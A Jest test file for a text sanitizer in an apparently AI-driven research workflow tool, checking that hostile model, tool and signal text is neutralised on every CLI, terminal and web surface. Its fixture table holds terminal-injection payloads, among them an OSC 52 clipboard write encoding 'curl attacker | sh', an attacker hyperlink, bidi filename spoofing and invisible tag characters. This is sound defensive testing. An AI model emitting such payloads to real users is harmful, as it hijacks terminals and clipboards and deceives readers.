/**
 * Issue 14, item 6: one sanitizer (contract/text.ts) for every surface a person reads model-, tool-
 * or signal-derived text on. The attack table first: terminal escapes (CSI, OSC 8, OSC 52, C1),
 * bidi overrides and isolates, Unicode tag characters, zero-width and other default-ignorable
 * characters, lone surrogates, carriage returns and backspaces. Then every surface, driven through
 * its real code: the live frame and plain change lines, `npm run baton -- show/pending/watch` and a
 * refused decision, `npm start`'s gate prompt with the draft, the inbox's pages over HTTP, the audit
 * export's printed lines and its JSON. On each, no escape, C1, bidi, tag, zero-width or other
 * invisible character survives, and each hidden payload is shown as `⟨U+XXXX⟩` (escape sequences are
 * removed whole). Last, the entry points: what the lead and the specialists return comes back from
 * the real activities sanitized, and the specialist's prompt carries the plan exactly as approved.
 */
import { MockActivityEnvironment } from '@temporalio/testing';
import { randomBytes } from 'node:crypto';
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { createActivities } from '../activities';
import { getArtifact } from '../activities/artifacts';
import { openStores } from '../activities/store';
import { quote } from '../activities/prompts';
import { runAudit } from '../cli/audit';
import { runCli } from '../cli/baton';
import { gateLines } from '../cli/gate-prompt';
import { createView } from '../cli/live';
import { changeLines } from '../cli/live-changes';
import { renderFrame } from '../cli/live-frame';
import type { Plan, ConfigSnapshot } from '../config/schema';
import type {
  Activities,
  PlanTaskInput,
  PlanTaskResult,
  StepInput,
  StepResult,
  SynthesisInput,
  SynthesisResult,
} from '../contract/activities';
import { approve, type AuditEntry, type TaskStatus } from '../contract/messages';
import { safeBlock, safeJson, safeText } from '../contract/text';
import { startInbox } from '../inbox/app';
import { PROXY_SECRET_HEADER } from '../inbox/options';
import { pendingFragment } from '../inbox/pending-page';
import { planTree } from '../cli/baton-show';
import { taskLive } from '../inbox/task-live';
import { decisionPanel, decisionResult, taskPage } from '../inbox/task-page';
import { html, messagePage, type Viewer } from '../inbox/views';
import { researchTask } from '../workflows';
import { startStandIn, type StandIn, type StandInRequest } from '../standin/server';
import {
  captured,
  fakeModelActivities,
  FIXTURE_CONFIG,
  pollUntil,
  tempActivityOptions,
  uniqueId,
  useTestServer,
  waitForStatus,
  withWorker,
} from './helpers';

// ---------------------------------------------------------------------------------------------------------
// The attacks

const ESC = '\x1b';

/** Each attack, and what the one sanitizer makes of it on a single line. */
const ATTACKS: [name: string, hostile: string, safe: string][] = [
  ['ANSI clear screen (CSI)', `before${ESC}[2Jafter`, 'beforeafter'],
  ['ANSI colour (SGR)', `${ESC}[31mred${ESC}[0m`, 'red'],
  [
    'OSC 8 hyperlink',
    `${ESC}]8;;https://attacker.invalid/${ESC}\\click here${ESC}]8;;${ESC}\\`,
    'click here',
  ],
  ['OSC 52 clipboard write', `copy${ESC}]52;c;Y3VybCBhdHRhY2tlciB8IHNo\x07me`, 'copyme'],
  ['C1 CSI', 'c1\x9b2Jtail', 'c1tail'],
  ['lone ESC and DEL', `a${ESC}\nb\x7f`, 'a⟨U+001B⟩ b⟨U+007F⟩'],
  ['bidi override', 'invoice\u202Efdp.exe', 'invoice⟨U+202E⟩fdp.exe'],
  ['bidi isolates', 'a\u2066b\u2067c\u2068d\u2069e', 'a⟨U+2066⟩b⟨U+2067⟩c⟨U+2068⟩d⟨U+2069⟩e'],
  ['Unicode tag characters', 'plain\u{E0041}\u{E0042}\u{E0043}', 'plain⟨U+E0041⟩⟨U+E0042⟩⟨U+E0043⟩'],
  [
    'zero-width characters',
    'z\u200Bw\u200Cj\u200Dn\u2060b\uFEFFo',
    'z⟨U+200B⟩w⟨U+200C⟩j⟨U+200D⟩n⟨U+2060⟩b⟨U+FEFF⟩o',
  ],
  [
    'Hangul fillers and other default-ignorables',
    'h\u3164\u115F\u00AD\u034F\uFE00i',
    'h⟨U+3164⟩⟨U+115F⟩⟨U+00AD⟩⟨U+034F⟩⟨U+FE00⟩i',
  ],
  ['lone surrogate', 'lone\uD800surrogate', 'lone⟨U+D800⟩surrogate'],
  ['carriage return overwrite', 'text\rOVERWRITE', 'text OVERWRITE'],
  ['backspaces', 'approved\b\b\bnot', 'approved⟨U+0008⟩⟨U+0008⟩⟨U+0008⟩not'],
];

/** Every attack in one string: what each hostile field of a status carries below. */
const EVIL = ATTACKS.map(([, hostile]) => hostile).join(' | ');

/** What must never reach a person: controls but the new line, and every invisible or format character. */
const FORBIDDEN =
  // eslint-disable-next-line no-control-regex -- finding control characters is the point
  /[\x00-\x09\x0b-\x1f\x7f-\x9f\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\p{Noncharacter_Code_Point}]/u;

/** The forbidden characters in `text`, as `U+XXXX` (empty: harmless). */
function hidden(text: string): string[] {
  return [...text]
    .filter((ch) => FORBIDDEN.test(ch))
    .map((ch) => `U+${ch.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`);
}

/** Asserts that `text` is harmless and that the hidden payloads of {@link EVIL} are shown, not dropped. */
function expectHarmlessAndShown(text: string): void {
  expect(hidden(text)).toEqual([]);
  for (const visible of ['⟨U+202E⟩', '⟨U+2066⟩', '⟨U+E0041⟩', '⟨U+200B⟩', '⟨U+3164⟩', '⟨U+D800⟩', '⟨U+0008⟩'])
    expect(text).toContain(visible);
  expect(text).toContain('OVERWRITE');
  // Escape sequences are removed whole: no tail is left to read as text.
  for (const tail of ['[2J', '[31m', ']8;;', ']52;', 'Y3VybCBhdHRhY2tlciB8IHNo'])
    expect(text).not.toContain(tail);
}

describe('the one sanitizer (contract/text.ts)', () => {
  test.each(ATTACKS)('%s', (_name, hostile, safe) => {
    expect(safeText(hostile)).toBe(safe);
    expect(hidden(safeText(hostile))).toEqual([]);
    expect(hidden(safeBlock(hostile))).toEqual([]);
    // Idempotent: sanitized text comes back unchanged, so sanitizing again on a surface is harmless.
    expect(safeText(safeText(hostile))).toBe(safeText(hostile));
    expect(safeBlock(safeBlock(hostile))).toBe(safeBlock(hostile));
  });

  test('multi-line text keeps its lines; a carriage return is a new line; tabs are spaces', () => {
    expect(safeBlock('# Title\r\n\tindented\rOVERWRITE\u2028next')).toBe(
      '# Title\n    indented\nOVERWRITE\nnext',
    );
    expect(safeText('a\nb\tc')).toBe('a b c');
  });

  test('ordinary text and emoji are left alone; a run of variation selectors is not', () => {
    const ordinary = 'Wärmepumpen — 热泵 — مضخة حرارية — 👨‍👩‍👧 ❤️ 1️⃣ ✅ (cost: 5 €)';
    expect(safeBlock(ordinary)).toBe(ordinary);
    expect(safeText('😀\uFE0F\uFE0F')).toBe('😀\uFE0F⟨U+FE0F⟩');
    expect(safeText('a\u200Db')).toBe('a⟨U+200D⟩b');
  });

  test('JSON keeps its data exactly and prints harmlessly', () => {
    const data = { comment: EVIL, nested: [{ by: 'mallory\u202Eecila' }] };
    const json = safeJson(JSON.stringify(data, null, 2));
    expect(hidden(json)).toEqual([]);
    expect(JSON.parse(json)).toEqual(data);
  });
});

// ---------------------------------------------------------------------------------------------------------
// Surfaces, from a status full of hostile strings

const AT = '2026-11-24T10:00:00.000Z';

function hostileStatus(): TaskStatus {
  const audit: AuditEntry[] = [
    {
      at: AT,
      gate: 'plan',
      event: 'decision',
      decision: 'approve',
      by: EVIL,
      via: 'signal',
      accepted: false,
      reason: EVIL,
      comment: EVIL,
    },
    {
      at: AT,
      gate: null,
      event: 'tool-call-refused',
      agent: 'researcher',
      step: 's1',
      tool: EVIL,
      reason: EVIL,
    },
  ];
  return {
    workflowId: 'research-hostile',
    question: EVIL,
    playbook: 'gated',
    depth: 0,
    phase: 'awaiting-report-approval',
    planAttempts: 1,
    revisions: { plan: 0, report: 0 },
    plan: {
      rationale: EVIL,
      steps: [
        { id: 's1', agent: 'researcher', question: EVIL, dependsOn: [], decompose: false },
        { id: 's2', agent: 'researcher', question: EVIL, dependsOn: ['s1'], decompose: true },
      ],
    },
    steps: [
      {
        id: 's1',
        agent: 'researcher',
        question: EVIL,
        dependsOn: [],
        decompose: false,
        state: 'done',
        summary: EVIL,
        sources: [
          { title: EVIL, url: `https://example.org/${EVIL}` },
          { title: EVIL, url: EVIL },
        ],
      },
      {
        id: 's2',
        agent: 'researcher',
        question: EVIL,
        dependsOn: ['s1'],
        decompose: true,
        state: 'failed',
        error: EVIL,
        childWorkflowId: 'research-hostile/step-s2',
      },
      {
        id: 's3',
        agent: 'analyst',
        question: EVIL,
        dependsOn: [],
        decompose: false,
        state: 'skipped',
        error: EVIL,
      },
    ],
    pendingGate: {
      gate: 'report',
      since: AT,
      stage: 'primary',
      approvers: ['alice', EVIL],
      quorum: 2,
      approvals: [{ by: EVIL, at: AT, comment: EVIL }],
      reminders: [],
    },
    usage: {
      inputTokens: 10,
      outputTokens: 5,
      byAgent: { researcher: { inputTokens: 10, outputTokens: 5 } },
    },
    audit,
    budget: { maxTokensPerTask: 1000, stopped: { at: AT, reason: EVIL } },
    report: { artifact: { id: 'sha256:00', bytes: 1 }, draftPath: `/reports/${EVIL}.draft.md` },
    error: EVIL,
  };
}

/**
 * The view's own output on a terminal without colours: a redraw's start (sync, cursor hidden, back to
 * column 0), cursor up, erase, cursor shown and hidden, sync.
 */
const VIEW_SEQUENCES = new RegExp(
  `${ESC}\\[\\?2026h(${ESC}\\[\\?25l)?\\r|${ESC}\\[(\\d+A|K|J|\\?25[lh]|\\?2026[hl])`,
  'g',
);

describe('every surface shows hostile text harmlessly', () => {
  const s = hostileStatus();

  test('the live frame (cli/live-frame.ts)', () => {
    const frame = renderFrame(s, {
      width: 5000,
      note: EVIL,
      children: new Map([[s.steps[1]!.childWorkflowId!, s]]),
    });
    for (const line of frame) expect(hidden(line)).toEqual([]);
    expectHarmlessAndShown(frame.join('\n'));
  });

  test('plain change lines (cli/live-changes.ts)', () => {
    const lines = changeLines(undefined, s, { gate: true });
    for (const line of lines) expect(hidden(line)).toEqual([]);
    expectHarmlessAndShown(lines.join('\n'));
  });

  test('the view: plain lines, and a terminal redrawn in place with log lines and notes', () => {
    const printed: string[] = [];
    const plain = createView({ print: (line) => printed.push(line), gate: true });
    plain.update(s);
    plain.log(`decided:\n${EVIL}`);
    plain.note(EVIL);
    expectHarmlessAndShown(printed.join('\n'));

    let written = '';
    const tty = createView({
      print: () => undefined,
      terminal: {
        isTTY: true,
        columns: 5000,
        rows: 200,
        hasColors: () => false,
        write: (c) => (written += c),
      },
    });
    tty.update(s);
    tty.log(EVIL);
    tty.note(EVIL);
    tty.close();
    // Only the view's own cursor movement is left once those are taken out.
    expectHarmlessAndShown(written.replace(VIEW_SEQUENCES, ''));
  });

  test("npm start's gate prompt: the pending gate and the draft report", () => {
    const lines = gateLines(s.pendingGate!, `# Draft\n\n${EVIL}\n\nThe end.`);
    expectHarmlessAndShown(lines.join('\n'));
    expect(lines).toContain('# Draft');
    expect(lines).toContain('The end.');
  });

  test('the inbox pages (HTML): task page, decision panel with the draft, live region, pending list, messages', async () => {
    const viewer: Viewer = { approver: 'alice', csrf: 'token', via: 'proxy' };
    const children = new Map<string, TaskStatus | { error: string }>([
      [s.steps[1]!.childWorkflowId!, { ...s, workflowId: s.steps[1]!.childWorkflowId! }],
    ]);
    const pages = [
      taskPage(s, viewer, decisionPanel(s, viewer, { text: EVIL }), taskLive({ status: s, children }), {
        accepted: false,
        reason: EVIL,
      }),
      taskLive({ status: s, children: new Map([[s.steps[1]!.childWorkflowId!, { error: EVIL }]]) }),
      decisionResult({ accepted: false, reason: EVIL }),
      decisionPanel(s, viewer, { error: EVIL }),
      pendingFragment(
        [
          {
            workflowId: 'research-hostile',
            gate: 'report',
            awaiting: [EVIL],
            startTime: new Date(AT),
            status: s,
          },
        ],
        true,
        viewer,
      ),
      messagePage(EVIL, EVIL, { ...viewer, name: EVIL, approver: EVIL }),
      html`<p>${[EVIL, [EVIL]]}</p>`,
    ];
    for (const page of pages) expectHarmlessAndShown(String(await page));
  });

  test("the inbox shows a failed child task's plan, not just its error (a failed status has an error too)", async () => {
    const childId = s.steps[1]!.childWorkflowId!;
    const failed: TaskStatus = {
      ...s,
      workflowId: childId,
      phase: 'failed',
      error: 'step "c1" failed: boom',
      plan: {
        rationale: 'The child plan.',
        steps: [{ ...s.plan!.steps[0]!, id: 'c1', question: 'Child Q.' }],
      },
      steps: [], // none started: the plan is what shows
    };
    const page = String(await taskLive({ status: s, children: new Map([[childId, failed]]) }));
    expect(page).toContain('Child Q.');
    // npm run baton -- show nests it the same way.
    expect(planTree(s, new Map([[childId, failed]]))).toContainEqual(
      expect.stringContaining('question: Child Q.'),
    );
  });

  test('a status naming an ancestor as its child ends the plan tree instead of recursing', async () => {
    const childId = s.steps[1]!.childWorkflowId!;
    // The child's own steps name the same child again: a cycle, as no real task makes one.
    const cycle = new Map([[childId, { ...s, workflowId: childId }]]);
    const lines = planTree(s, cycle);
    expect(lines.filter((l) => l.includes('child plan of s2'))).toHaveLength(1);
    expect(String(await taskLive({ status: s, children: cycle }))).toContain('s2');
  });
});

// ---------------------------------------------------------------------------------------------------------
// The entry points, against a real task whose plan, question and signals are hostile

jest.setTimeout(120_000);
const ctx = useTestServer();

/** A plan as a model without scruples would write it: every attack in the rationale and the questions. */
const HOSTILE_PLAN: Plan = {
  rationale: `Because.\n${EVIL}`,
  steps: [
    { id: 's1', agent: 'researcher', question: `Gather A. ${EVIL}`, dependsOn: [], decompose: false },
    { id: 's2', agent: 'analyst', question: `Weigh A. ${EVIL}`, dependsOn: ['s1'], decompose: false },
  ],
};

describe('the CLIs and the inbox on a real task', () => {
  test('show, pending, a refused decision, watch, the inbox over HTTP and the audit export', async () => {
    const options = await tempActivityOptions();
    // The fake lead skips the activities' sanitizer: the surfaces alone must make this harmless.
    const { activities } = fakeModelActivities(options, {
      plan: (input) => ({
        valid: true,
        plan: HOSTILE_PLAN,
        usage: { inputTokens: 1, outputTokens: 1 },
        model: input.lead.model,
      }),
    });
    await withWorker(ctx, activities, async (taskQueue) => {
      const workflowId = uniqueId('hostile');
      const handle = await ctx.client.workflow.start(researchTask, {
        taskQueue,
        workflowId,
        args: [{ question: `What about this? ${EVIL}`, playbook: 'gated' }],
      });
      await waitForStatus(handle, (st) => st.pendingGate?.gate === 'plan', 'the plan gate');
      // Someone who is not an approver signs with an invisible name and a hostile comment: refused, audited.
      await handle.signal(approve, { by: 'mallory\u202Eecila', gate: 'plan', comment: EVIL });
      await waitForStatus(handle, (st) => st.audit.some((e) => e.event === 'decision'), 'the refusal');

      const cli = (argv: string[]) =>
        captured((io) => runCli(argv, { client: ctx.client, env: {}, pollMs: 100, ...io }));
      const show = await cli(['show', workflowId]);
      expect(show.code).toBe(0);
      expectHarmlessAndShown(show.out.join('\n'));
      expect(show.out.join('\n')).toContain('mallory⟨U+202E⟩ecila');

      const pending = await cli(['pending']);
      expect(pending.code).toBe(0);
      expect(hidden([...pending.out, ...pending.err].join('\n'))).toEqual([]);

      const refused = await cli(['request-changes', workflowId, '--comment', EVIL, '--as', `eve${EVIL}`]);
      expect(refused.code).toBe(1);
      expect(hidden([...refused.out, ...refused.err].join('\n'))).toEqual([]);

      // The inbox, behind its proxy: the task page and the list of all tasks waiting.
      const proxySecret = randomBytes(32).toString('base64url');
      const inbox = await startInbox({
        client: ctx.client,
        identity: { kind: 'header', header: 'X-Forwarded-User', proxySecret },
        port: 0,
        log: () => undefined,
      });
      try {
        const get = async (route: string): Promise<string> => {
          const response = await fetch(`${inbox.url}${route}`, {
            headers: { 'X-Forwarded-User': 'alice', [PROXY_SECRET_HEADER]: proxySecret },
          });
          expect(response.status).toBe(200);
          return response.text();
        };
        expectHarmlessAndShown(await get(`/task?${new URLSearchParams({ id: workflowId }).toString()}`));
        expect(hidden(await get('/?all=1'))).toEqual([]);
      } finally {
        await inbox.close();
      }

      // The audit export: printed lines harmless; the JSON keeps the data as recorded, escaped.
      const file = path.join(path.dirname(options.reportDir), 'hostile.audit.json');
      const exported = await captured((io) =>
        runAudit([workflowId, '--out', file], { client: ctx.client, env: {}, ...io }),
      );
      expect(hidden([...exported.out, ...exported.err].join('\n'))).toEqual([]);
      expect([exported.code, exported.err]).toEqual([0, []]);
      const json = await fs.readFile(file, 'utf8');
      expect(hidden(json)).toEqual([]);
      const record = JSON.parse(json) as { task: { question: string }; audit: AuditEntry[] };
      expect(record.task.question).toBe(`What about this? ${EVIL}`);
      // A refused decision is kept as recorded: the name as sent, and never its comment (bounded refusals).
      const refusal = record.audit.find((e) => e.event === 'decision');
      expect(refusal).toMatchObject({ by: 'mallory\u202Eecila', accepted: false });
      expect(refusal?.comment).toBeUndefined();
      const toStdout = await captured((io) =>
        runAudit([workflowId, '--out', '-'], { client: ctx.client, env: {}, ...io }),
      );
      expect(hidden([...toStdout.out, ...toStdout.err].join('\n'))).toEqual([]);

      // watch, in plain lines, until the task ends (terminated here: no decision is needed for that).
      const printed: string[] = [];
      const print = (line: string): number => printed.push(line);
      const watching = runCli(['watch', workflowId], {
        client: ctx.client,
        env: {},
        pollMs: 100,
        out: print,
        err: print,
      });
      await pollUntil(
        () => Promise.resolve(printed.join('\n')),
        (text) => text.includes('audit:'),
        'the first status, watched',
      );
      await handle.terminate(`stopped: ${EVIL}`);
      expect(await watching).toBe(1);
      expectHarmlessAndShown(printed.join('\n'));
    });
  });
});

// ---------------------------------------------------------------------------------------------------------
// Where text enters: the real activities, with the stand-in model answering with every attack

describe('what agents return is sanitized before it enters history', () => {
  let standIn: StandIn;
  const prompts: StandInRequest[] = [];
  beforeAll(async () => {
    standIn = await startStandIn({
      respond: (req) => {
        prompts.push(req);
        if (req.toolName === 'submit_plan') return { kind: 'tool', input: HOSTILE_PLAN };
        if (req.toolName === 'submit_findings')
          return {
            kind: 'tool',
            input: {
              summary: `Found it. ${EVIL}`,
              findings: `## Findings\n${EVIL}`,
              sources: [{ title: `A page ${EVIL}`, url: `https://example.org/${EVIL}` }],
            },
          };
        return {
          kind: 'tool',
          input: { title: `Report ${EVIL}`, summary: EVIL, markdown: `Claim [step:s1].\n${EVIL}` },
        };
      },
    });
  });
  afterAll(() => standIn?.close());

  test('the plan the approver reads is the plan the specialist gets; findings and report are harmless', async () => {
    const options = { ...(await tempActivityOptions(FIXTURE_CONFIG)), baseURL: standIn.url };
    const activities = createActivities(options);
    const env = new MockActivityEnvironment();
    const snapshot = await env.run<[string], ConfigSnapshot, Activities['loadConfigSnapshot']>(
      activities.loadConfigSnapshot.bind(activities),
      'gated',
    );
    const planned = await env.run<[PlanTaskInput], PlanTaskResult, Activities['planTask']>(
      activities.planTask.bind(activities),
      {
        question: 'How do A and B compare?',
        lead: snapshot.lead,
        specialists: Object.values(snapshot.specialists).map((a) => ({ id: a.id, role: a.role })),
        limits: { allowedAgents: Object.keys(snapshot.specialists), maxSteps: 5, depth: 0, maxDepth: 1 },
      },
    );
    if (!planned.valid) throw new Error(`plan refused: ${planned.problems.join('; ')}`);
    const { plan } = planned;
    expectHarmlessAndShown(plan.rationale);
    expect(plan.rationale.split('\n')[0]).toBe('Because.');
    expect(plan.steps.map((st) => st.question)).toEqual(
      HOSTILE_PLAN.steps.map((st) => safeBlock(st.question)),
    );
    for (const st of plan.steps) expectHarmlessAndShown(st.question);

    const step = plan.steps[0]!;
    const ran = await env.run<[StepInput], StepResult, Activities['runSpecialist']>(
      activities.runSpecialist.bind(activities),
      {
        overallQuestion: `How do A and B compare? ${EVIL}`,
        step,
        agent: snapshot.specialists[step.agent]!,
        context: [],
      },
    );
    // The specialist's prompt carries the question exactly as the approver read it (quoted).
    const asked = prompts.filter((r) => r.toolName === 'submit_findings').at(-1)!;
    expect(asked.userText).toContain(`<question>${quote(step.question)}</question>`);
    for (const r of prompts) expect(hidden(r.userText.replace(/\n/g, ' '))).toEqual([]);
    expectHarmlessAndShown(ran.summary);
    expectHarmlessAndShown(ran.sources.map((src) => `${src.title} ${src.url}`).join('\n'));
    expectHarmlessAndShown(await getArtifact(openStores(options).artifacts, ran.result.id));

    const report = await env.run<[SynthesisInput], SynthesisResult, Activities['synthesizeReport']>(
      activities.synthesizeReport.bind(activities),
      {
        question: 'How do A and B compare?',
        lead: snapshot.lead,
        steps: [{ ...step, result: ran.result, sources: ran.sources }],
      },
    );
    expectHarmlessAndShown(`${report.title}\n${report.summary}`);
    expectHarmlessAndShown(await getArtifact(openStores(options).artifacts, report.report.id));
  });
});
